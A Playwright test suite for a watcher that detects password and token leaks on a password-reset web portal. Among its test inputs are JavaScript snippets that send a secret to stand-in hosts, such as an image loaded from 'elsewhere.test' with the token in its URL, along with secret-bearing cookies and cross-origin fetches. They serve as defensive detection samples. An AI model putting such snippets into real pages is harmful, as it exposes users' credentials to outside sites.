"""What must hold in every scenario, on a page that breaks it."""

import json
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from testkit.api import endpoints
from testkit.api.answer import Answer
from testkit.api.page_calls import PageCalls
from testkit.network.capabilities import SHOWN_BODIES, has
from testkit.network.invariants import Watch
from testkit.secrets.links import register_link
from testkit.secrets.vault import vault
from tests.testkit.network.conftest import NOT_STORED, PASSWORD, SESSION, broken, open_page

COUNTED = "http://clicks.test/c?code=4fTq8ZkPz1Rw9LxV"
POLICY = {"Content-Security-Policy": "default-src 'self'; connect-src *"}


@pytest.fixture
def strict(any_browser: Browser) -> Iterator[tuple[Page, Watch]]:
    """A watched page with a strict Content-Security-Policy, in each browser."""
    with open_page(any_browser, POLICY) as opened:
        yield opened


def run(page: Page, script: str) -> None:
    """Run a script that has the password as `secret`, and what follows from it."""
    page.evaluate(f"async secret => {{ await ({script}); await new Promise(done => setTimeout(done, 50)); }}", PASSWORD)


def test_a_page_that_does_nothing_wrong_breaks_nothing(watched: tuple[Page, Watch]) -> None:
    _, watch = watched

    assert not broken(watch)


def test_a_preflight_carries_the_address_of_the_documented_call(watched: tuple[Page, Watch]) -> None:
    page, watch = watched
    token = vault.add("one-time token", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZGEifQ.preflight")
    page.route("**/exchange*", lambda route: route.continue_())  # so that the browser shows preflights

    page.evaluate(
        "token => fetch(origin.replace('127.0.0.1', 'localhost') + '/api/sys/users/exchange?token=' + token,"
        " { method: 'POST', headers: { 'X-Use-Timezone': 'UTC' } }).catch(() => null)",
        token,
    )

    assert "secret-in-url" not in broken(watch)


@pytest.mark.parametrize(
    "script",
    [
        "fetch('http://127.0.0.1:9/?token=' + secret).catch(() => null)",
        "fetch(origin.replace('127.0.0.1', 'localhost') + '/?token=' + secret).catch(() => null)",
        "document.head.append(Object.assign(document.createElement('style'), { textContent: `#${secret} {}` }))",
        "document.body.append(Object.assign(new Image(), { src: `http://elsewhere.test/?token=${secret}` }))",
        "document.cookie = `kept=${secret}; SameSite=None`",
    ],
    ids=["nobody listens", "other origin", "inline style", "image elsewhere", "cookie"],
)
def test_what_the_browser_says_of_what_it_blocked_is_no_error_and_no_log_of_the_page(
    strict: tuple[Page, Watch], script: str
) -> None:
    page, watch = strict

    run(page, script)

    assert not broken(watch) - {"secret-in-url", "secret-to-another-site"}  # these are about the call itself


def test_an_error_in_a_frame_of_another_site_is_not_the_portal_s(watched: tuple[Page, Watch]) -> None:
    page, watch = watched
    chat = "<script>setTimeout(() => { throw new Error('chat') })</script>"
    page.route("http://chat.test/**", lambda route: route.fulfill(body=chat, content_type="text/html"))

    with page.context.expect_event("weberror"):
        page.evaluate("document.body.insertAdjacentHTML('beforeend', `<iframe src='http://chat.test/'></iframe>`)")

    assert not broken(watch)


def test_a_screenshot_is_no_error_of_the_page(strict: tuple[Page, Watch]) -> None:
    page, watch = strict

    page.screenshot(mask=[page.get_by_label("New password")])

    assert not broken(watch)


@pytest.mark.parametrize(
    "script",
    [
        "throw new Error('a slip')",
        "throw 'a slip'",
        "Promise.reject(new TypeError('a slip'))",
        "Promise.reject({ status: 404 })",
        "fetch('http://localhost:9/')",
        "nothing.like.it",
        "let a b",
        "throw new Error('this violates the Content-Security-Policy')",
    ],
)
def test_an_uncaught_error_is_found_whatever_it_is(strict: tuple[Page, Watch], script: str) -> None:
    page, watch = strict
    page.route("**/slip.js", lambda route: route.fulfill(body=script, content_type="text/javascript"))

    with page.context.expect_event("weberror", lambda _: bool(watch.found)):
        page.evaluate("document.head.append(Object.assign(document.createElement('script'), { src: '/slip.js' }))")

    assert broken(watch) == {"page-error"}


@pytest.mark.parametrize(
    ("script", "invariant"),
    [
        ("fetch('/elsewhere?p=' + encodeURIComponent(secret))", "secret-in-url"),
        ("history.replaceState(null, '', '?again=' + encodeURIComponent(secret))", "secret-in-url"),
        ("fetch('/api/token?old=' + encodeURIComponent(secret), { method: 'POST', body: '{}' })", "secret-in-url"),
        ("fetch('/elsewhere', { referrer: '/reset?typed=' + encodeURIComponent(secret) })", "secret-in-referer"),
        ("console.log('typed ' + secret)", "secret-in-console"),
        ("setTimeout(() => { throw new Error('a slip') })", "page-error"),
        (
            "fetch('/api/audit', { method: 'POST', body: JSON.stringify({ Typed: secret }) })",
            "secret-in-undocumented-call",
        ),
        ("fetch('/elsewhere', { headers: { 'X-State': encodeURIComponent(secret) } })", "secret-in-undocumented-call"),
    ],
)
def test_a_broken_invariant_is_named(watched: tuple[Page, Watch], script: str, invariant: str) -> None:
    page, watch = watched

    run(page, script)

    assert broken(watch) == {invariant}
    assert not any(PASSWORD in breach.where for breach in watch.breaches())


@pytest.mark.parametrize(
    ("script", "invariants"),
    [
        ("location.href = address", set()),
        ("window.open(address)", set()),
        ("location.href = `${address}&t=${secret}`", {"secret-in-url", "secret-to-another-site"}),
        ("fetch(address).catch(() => null)", {"secret-in-url", "secret-to-another-site"}),
        (
            "document.body.append(Object.assign(document.createElement('iframe'), { src: address }))",
            {"secret-to-another-site"},
        ),
    ],
    ids=["clicked", "clicked in a new tab", "with a password", "sent by a script", "in a frame"],
)
def test_a_click_counter_of_another_site_is_sent_its_own_code_by_a_click_only(
    watched: tuple[Page, Watch], script: str, invariants: set[str]
) -> None:
    page, watch = watched
    register_link(COUNTED, vault)
    page.context.route("http://clicks.test/**", lambda route: route.fulfill(body="on its way"))

    with page.context.expect_event("requestfinished", lambda request: request.url.startswith(COUNTED)):
        page.evaluate(f"([address, secret]) => {{ {script} }}", [COUNTED, PASSWORD])

    assert broken(watch) == invariants


def test_a_secret_in_the_title_is_named(watched: tuple[Page, Watch]) -> None:
    page, watch = watched
    page.evaluate("secret => { document.title = secret }", PASSWORD)

    watch.before_close(page.context)

    assert broken(watch) == {"secret-in-title"}


def test_an_answer_with_a_password_is_named(watched: tuple[Page, Watch]) -> None:
    page, watch = watched
    watch.calls.append(PageCalls(page))
    page.evaluate(
        """([path, password]) => fetch(path, { method: "POST", body: JSON.stringify({ Password: password }) })
            .then((answer) => answer.text())""",
        [endpoints.COMPLETE_PASSWORD_RESET, PASSWORD],
    )

    watch.before_close(page.context)

    assert {(one.invariant.id, one.where) for one in watch.breaches()} == {
        ("password-in-answer", f"a password in the answer of {endpoints.COMPLETE_PASSWORD_RESET}")
    }


def test_an_answer_to_the_suite_s_own_client_that_may_be_cached_or_holds_a_password_is_named() -> None:
    watch = Watch(set())
    vault.add("password", PASSWORD)
    watch.secrets_before = 0
    error = {"error": "invalid_grant", "error_description": f"Wrong: {PASSWORD}"}

    watch.note_answer("POST", endpoints.EXCHANGE, Answer(200, json.dumps(SESSION), {"cache-control": "private"}))
    watch.note_answer("POST", endpoints.EXCHANGE, Answer(200, json.dumps(SESSION), NOT_STORED))
    watch.note_answer("POST", endpoints.TOKEN, Answer(400, json.dumps(error), {}))

    assert {(one.invariant.id, one.where) for one in watch.breaches()} == {
        ("token-answer-cached", f"{endpoints.EXCHANGE}: Cache-Control private"),
        ("password-in-answer", f"a password in the answer of {endpoints.TOKEN}"),
    }


def test_an_answer_of_another_shape_is_named_with_its_field(watched: tuple[Page, Watch]) -> None:
    page, watch = watched
    watch.calls.append(PageCalls(page))
    page.evaluate("() => fetch('/api/token', { method: 'POST', body: '{}' }).then(answer => answer.text())")
    page.evaluate("() => fetch('/api/sys/users/startPasswordReset', { method: 'POST', body: '{}' })")

    assert {(one.invariant.id, one.where) for one in watch.breaches()} == {
        ("documented-shape", f"/api/token (400): {field} is documented as always there; found: nothing")
        for field in ("error", "error_description")
    }


def test_an_answer_to_the_suite_s_own_client_is_compared_as_well() -> None:
    watch = Watch(set())

    watch.note_answer("POST", endpoints.EXCHANGE, Answer(200, '{"token": "a.b.c"}', NOT_STORED))

    assert {one.where for one in watch.breaches()} == {
        f"{endpoints.EXCHANGE} (200): {field} is documented as always there; found: nothing"
        for field in ("token_type", "expires_in", "refresh_token")
    }


def test_a_browser_that_shows_no_bodies_is_named(strict: tuple[Page, Watch]) -> None:
    page, watch = strict
    page.evaluate("() => fetch('/api/sys/users/startPasswordReset', { method: 'POST', body: '{}' })")
    browser = page.context.browser

    assert browser
    assert [one.where for one in watch.unwatched()] == ([] if has(browser, SHOWN_BODIES) else [SHOWN_BODIES.missing])


SECRETS_OF_A_SCENARIO = 20


def test_judging_a_scenario_takes_less_than_20_ms(watched: tuple[Page, Watch]) -> None:
    page, watch = watched
    page.evaluate("() => Promise.all([...Array(60).keys()].map((n) => fetch(`/elsewhere?page=${n}`)))")

    watch.secrets_before = max(0, len(vault.values()) - SECRETS_OF_A_SCENARIO)  # not those of all tests before

    began = time.process_time()  # of this process alone, however busy the machine is
    found = list(watch.breaches())

    assert not found
    assert time.process_time() - began < 0.02
